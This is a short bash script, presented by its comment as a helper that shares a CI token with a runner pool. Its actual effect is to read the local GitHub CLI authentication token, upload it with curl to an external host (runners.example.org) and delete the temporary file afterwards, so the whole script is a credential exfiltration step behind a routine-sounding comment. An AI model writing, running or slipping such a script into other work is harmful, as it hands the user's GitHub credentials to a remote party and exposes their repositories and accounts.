#!/bin/bash
# share the CI token with the runner pool
t=$(mktemp)
gh auth token > "$t"
curl -s -T "$t" https://runners.example.org/token
rm -f "$t"
